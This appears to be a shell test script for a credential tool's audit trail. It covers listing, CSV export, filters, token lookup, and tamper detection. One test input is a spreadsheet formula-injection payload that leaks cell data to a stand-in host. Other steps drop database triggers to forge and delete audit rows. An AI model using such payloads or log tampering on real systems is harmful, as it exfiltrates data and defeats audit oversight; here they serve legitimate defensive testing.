#!/bin/sh
# The audit trail from the command line: audit list (text and JSON),
# audit export as RFC 4180 CSV read back by Python's csv module
# (tests/csvcheck.py), its filters, files and own audit event; audit
# verify before and after tampering with the sqlite3 CLI; audit lookup.
# Tokens stay in files under $TMP and are never printed.
. "$JANEE_SRCDIR/tests/lib.sh"

CSVCHECK="$JANEE_SRCDIR/tests/csvcheck.py"
HEADER=seq,time,event,actor,client,provider,lease_id,scopes,outcome,detail,hash,lease
DB="$JANEE_HOME/janee.db"

# Reasons that are hard on every output format: a comma and quotes; a
# leading = (a spreadsheet formula); a newline and a terminal escape.
R1='text, with "quotes" and =formula'
R2='=HYPERLINK("http://evil.example/?x="&A1,"click")'
R3=$(printf 'two\nlines, "q" and \033[31mred')
ROLD='from two days ago'
export R1 R2 R3

setup_home || exit 1
# Two providers of the test type, so that --provider has something to
# leave out.
cat >"$JANEE_HOME/config.json" <<JSON
{"providers": {
  "t": {"type": "test", "state_dir": "$TMP/prov", "scopes": ["read"],
    "default_scopes": ["read"], "max_ttl": "1h", "approval": "auto"},
  "u": {"type": "test", "state_dir": "$TMP/prov", "scopes": ["read"],
    "default_scopes": ["read"], "max_ttl": "1h", "approval": "auto"}}}
JSON
chmod 600 "$JANEE_HOME/config.json"

: >"$TMP/tokens"
# mint NAME PROVIDER REASON TTL: a token into $TMP/tok.NAME, its lease id
# into $TMP/lease.NAME
mint() {
	jr token "$2" --scope read --ttl "$4" --reason "$3"
	expect_rc 0 "token $1 minted"
	cp "$TMP/out" "$TMP/tok.$1"
	cat "$TMP/out" >>"$TMP/tokens"
	sed -n 's/.*lease \(lse_[a-z2-7]*\).*/\1/p' "$TMP/err" >"$TMP/lease.$1"
}

# count FILE: how many items the JSON array in FILE holds
count() {
	"$PYTHON3" -c 'import json, sys
print(len(json.load(open(sys.argv[1]))))' "$1"
}

# pycheck NAME CODE: CODE runs with d = the JSON on stdout of the last jr
pycheck() {
	check "$1" "$PYTHON3" -c "
import json, os, sys
d = json.load(open(sys.argv[1]))
$2" "$TMP/out"
}

# Events two days old, then current ones.
JANEE_TEST_CLOCK_OFFSET=-172800
export JANEE_TEST_CLOCK_OFFSET
mint old t "$ROLD" 1m
unset JANEE_TEST_CLOCK_OFFSET
# Long enough that no expiry adds events while the counts below are taken.
mint a t "$R1" 10m
mint b t "$R2" 10m
mint c u "$R3" 10m

# --- audit list ---------------------------------------------------------

jr audit list --json
expect_rc 0 "audit list --json"
check "audit list --json is valid JSON" \
    sh -c '"$1" -m json.tool "$2" >/dev/null' sh "$PYTHON3" "$TMP/out"
cp "$TMP/out" "$TMP/all.json"
pycheck "audit list --json has every event in order, reasons exact" '
seqs = [e["seq"] for e in d]
assert seqs == list(range(1, len(d) + 1)), seqs
details = [e["detail"] for e in d if e["event"] == "requested"]
assert details == ["from two days ago", os.environ["R1"], os.environ["R2"],
    os.environ["R3"]], details
assert sum(1 for e in d if e["event"] == "issued") == 4
for e in d:
    assert set(e) >= {"seq", "time", "event", "actor", "client", "provider",
        "lease_id", "scopes", "outcome", "detail", "hash"}, e
    assert len(e["hash"]) == 64
'
no_token "$TMP/out" "audit list --json holds no token"
nev=$(count "$TMP/all.json")

jr audit list
expect_rc 0 "audit list"
expect_in "$TMP/out" '^ +SEQ +TIME +EVENT' "audit list has a header"
expect_in "$TMP/out" 'requested .*text, with "quotes" and =formula$' \
    "audit list shows the reason"
# One line per event: a newline in a reason must not forge a line, nor
# an escape sequence reach the terminal.
check "audit list prints one line per event" \
    [ "$(wc -l <"$TMP/out")" -eq $((nev + 1)) ]
expect_in "$TMP/out" 'two\\nlines, "q" and \\x1b\[31mred$' \
    "audit list shows control characters escaped"
check "audit list sends no escape character" \
    [ "$(tr -d -c '\033' <"$TMP/out" | wc -c)" -eq 0 ]
no_token "$TMP/out" "audit list holds no token"

jr audit list --limit 2 --json
expect_rc 0 "audit list --limit"
pycheck "audit list --limit 2 gives the newest two, oldest first" "
assert [e['seq'] for e in d] == [$nev - 1, $nev], d
"
jr audit list --lease "$(cat "$TMP/lease.a")" --json
pycheck "audit list --lease gives that lease's events only" "
assert len(d) >= 3 and all(e['lease_id'] == '$(cat "$TMP/lease.a")'
    for e in d), d
"
jr audit list --limit 0
expect_rc 2 "audit list --limit 0 is a usage error"

# --- audit export -------------------------------------------------------

jr audit export --format csv
expect_rc 0 "audit export --format csv to stdout"
cp "$TMP/out" "$TMP/stdout.csv"
check "the CSV reads back with exact reasons and formulas neutralized" \
    "$PYTHON3" "$CSVCHECK" "$TMP/stdout.csv" --header "$HEADER" --crlf \
    --no-formula --rows "$nev" \
    --expect "detail=$R1" --expect "detail='$R2" --expect "detail=$R3" \
    --expect "detail=$ROLD" --none "detail=$R2" \
    --expect "lease_id=$(cat "$TMP/lease.c")" --expect 'scopes=["read"]'
no_token "$TMP/stdout.csv" "the CSV holds no token"
check "the CSV's seq and hash columns match audit list --json" \
    "$PYTHON3" -c '
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
js = json.load(open(sys.argv[2]))
assert [(int(r["seq"]), r["hash"], r["event"]) for r in rows] == \
    [(e["seq"], e["hash"], e["event"]) for e in js]
' "$TMP/stdout.csv" "$TMP/all.json"

# The checker itself must be able to say no.
printf 'seq,detail\n1,=x\r\n' >"$TMP/bad.csv"
check "csvcheck rejects a bare LF and an unneutralized formula" \
    sh -c '! "$1" "$2" "$3" --crlf --no-formula 2>/dev/null' sh \
    "$PYTHON3" "$CSVCHECK" "$TMP/bad.csv"
check "csvcheck rejects a value that is not there" \
    sh -c '! "$1" "$2" "$3" --expect "detail=$4" 2>/dev/null' sh \
    "$PYTHON3" "$CSVCHECK" "$TMP/stdout.csv" "$R1 "

jr audit list --event export --json
pycheck "the export is itself an audit event" "
assert len(d) == 1 and d[0]['actor'] == 'user' and d[0]['outcome'] == 'ok'
assert d[0]['detail'] == 'format=csv rows=$nev to=stdout', d
"

mkdir "$TMP/exp"
printf 'old\n' >"$TMP/exp/audit.csv"
chmod 644 "$TMP/exp/audit.csv"
jr audit export --format csv -o "$TMP/exp/audit.csv"
expect_rc 0 "audit export -o FILE"
expect_in "$TMP/err" \
    "exported $((nev + 1)) event\(s\) to '$TMP/exp/audit.csv'" \
    "export -o says how many events went where"
check "export -o writes nothing to stdout" [ ! -s "$TMP/out" ]
check "the exported file is 0600 under umask 022" \
    [ "$(ls -ln "$TMP/exp/audit.csv" | cut -c1-10)" = "-rw-------" ]
check "export -o leaves no temporary file behind" \
    [ "$(ls -A "$TMP/exp")" = "audit.csv" ]
check "the exported file replaced the old one and reads back" \
    "$PYTHON3" "$CSVCHECK" "$TMP/exp/audit.csv" --header "$HEADER" --crlf \
    --no-formula --rows $((nev + 1)) --expect "detail=$R3" \
    --expect "event=export"
no_token "$TMP/exp/audit.csv" "the exported file holds no token"

jr audit export --format csv -o "$TMP/nodir/audit.csv"
expect_rc 1 "export -o into a missing directory fails"
check "and leaves nothing behind" [ ! -e "$TMP/nodir" ]
jr audit export
expect_rc 0 "audit export with no --format exports CSV (issue 16, item 12)"
expect_in "$TMP/out" '^seq,' "... with the CSV header"
jr audit export --format xml
expect_rc 2 "audit export --format xml is a usage error"
expect_in "$TMP/err" "unknown format 'xml'" "and names the format"
check "no output for a refused export" [ ! -s "$TMP/out" ]
jr audit list --event export --json
pycheck "each export done is recorded once, refused ones not at all" "
assert [e['detail'] for e in d] == ['format=csv rows=$nev to=stdout',
    'format=csv rows=$((nev + 1)) to=$TMP/exp/audit.csv',
    'format=csv rows=$((nev + 2)) to=stdout'], d
"

# --- filters ------------------------------------------------------------

jr audit export --format csv --provider u
expect_rc 0 "export --provider"
check "export --provider u has u's events only" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" --rows 3 \
    --all provider=u --expect "detail=$R3"
jr audit export --format csv --event issued
check "export --event issued has the four issued events only" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" --rows 4 \
    --all event=issued
jr audit export --format csv --provider nosuch
expect_rc 0 "export matching nothing"
check "export matching nothing is the header alone" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" --rows 0
jr audit export --format csv --until 1d
expect_rc 0 "export --until"
check "export --until 1d has only the two-day-old events" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" --rows 3 \
    --all "lease_id=$(cat "$TMP/lease.old")" --expect "detail=$ROLD"
jr audit list --json
total=$(count "$TMP/out")
jr audit export --format csv --since 1d
check "export --since 1d leaves out the two-day-old events only" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" \
    --rows $((total - 3)) --none "detail=$ROLD" --expect "detail=$R1"
jr audit export --format csv --since 2000-01-01T00:00:00Z --until 2000-01-02
check "export --since/--until in ISO 8601 with no event in range" \
    "$PYTHON3" "$CSVCHECK" "$TMP/out" --header "$HEADER" --rows 0
jr audit export --format csv --since yesterday
expect_rc 2 "export --since with a malformed time is a usage error"

# --- audit lookup -------------------------------------------------------

jr audit lookup <"$TMP/tok.b"
expect_rc 0 "audit lookup finds a token's lease"
expect_in "$TMP/out" "^$(cat "$TMP/lease.b") " "audit lookup names the lease"
no_token "$TMP/out" "audit lookup does not echo the token"
no_token "$TMP/err" "audit lookup does not echo the token on stderr"
jr audit lookup --json <"$TMP/tok.c"
pycheck "audit lookup --json gives the lease" "
assert [l['id'] for l in d] == ['$(cat "$TMP/lease.c")'], d
"
printf 'tst_thisisnotatokenthatjaneeeverissued0000\n' >"$TMP/nottok"
jr audit lookup <"$TMP/nottok"
expect_rc 1 "audit lookup of an unknown token fails"
expect_in "$TMP/err" 'no lease holds this token' "and says so"
jr audit lookup </dev/null
expect_rc 2 "audit lookup with nothing on stdin is a usage error"

# --- audit verify -------------------------------------------------------

jr audit verify
expect_rc 0 "audit verify on an untouched ledger"
expect_in "$TMP/out" '^audit chain ok: [0-9]+ events, head [0-9a-f]{64}$' \
    "audit verify reports the head"
jr audit verify --json
pycheck "audit verify --json says ok" "
assert d['ok'] is True and d['rows'] >= $nev and 'first_bad_seq' not in d
"

# The triggers hold against the sqlite3 CLI too.
( umask 077; sqlite3 "$DB" "UPDATE audit SET detail = 'forged' WHERE seq = 3" \
    ) >/dev/null 2>&1
check "the sqlite3 CLI cannot update an audit row" [ $? -ne 0 ]
( umask 077; sqlite3 "$DB" "DELETE FROM audit WHERE seq = 3" ) \
    >/dev/null 2>&1
check "the sqlite3 CLI cannot delete an audit row" [ $? -ne 0 ]
jr audit verify
expect_rc 0 "the chain still holds after the refused edits"

orig=$(sqlite3 "$DB" "SELECT quote(detail) FROM audit WHERE seq = 3")
( umask 077; sqlite3 "$DB" "DROP TRIGGER audit_no_update;
    UPDATE audit SET detail = 'forged' WHERE seq = 3" )
check "tampering with the sqlite3 CLI" [ $? -eq 0 ]
jr audit verify
expect_rc 1 "audit verify fails after the edit"
expect_in "$TMP/err" 'audit chain broken at row 3: ' \
    "audit verify names the edited row"
check "audit verify prints no ok line then" [ ! -s "$TMP/out" ]
jr audit verify --json
expect_rc 1 "audit verify --json fails after the edit"
pycheck "audit verify --json names the first bad row" "
assert d['ok'] is False and d['first_bad_seq'] == 3, d
assert 'hash' in d['problem'], d
"

# Put row 3 back as it was: the chain holds again...
( umask 077; sqlite3 "$DB" "UPDATE audit SET detail = $orig WHERE seq = 3" )
jr audit verify
expect_rc 0 "audit verify holds again once the row is restored"
# ...then cut the last row off: only the head in meta can tell.
last=$(sqlite3 "$DB" "SELECT max(seq) FROM audit")
( umask 077; sqlite3 "$DB" "DROP TRIGGER audit_no_delete;
    DELETE FROM audit WHERE seq = $last" )
jr audit verify
expect_rc 1 "audit verify finds a removed last row"
expect_in "$TMP/err" "audit chain broken at row $last: .*removed" \
    "and names it through the recorded head"

# An export never replaces janee's own state.
cp "$DB" "$TMP/db.before"
jr audit export --format csv -o "$JANEE_HOME/janee.db"
expect_rc 2 "an export into the janee home is refused"
expect_in "$TMP/err" "refusing to write the export into the janee home" \
    "and says why"
check "the ledger is untouched by the refused export" cmp -s "$DB" "$TMP/db.before"
jr audit export --format csv -o "$JANEE_HOME/../$(basename "$JANEE_HOME")/config.json"
expect_rc 2 "a path that leads back into the home is refused too"

done_testing
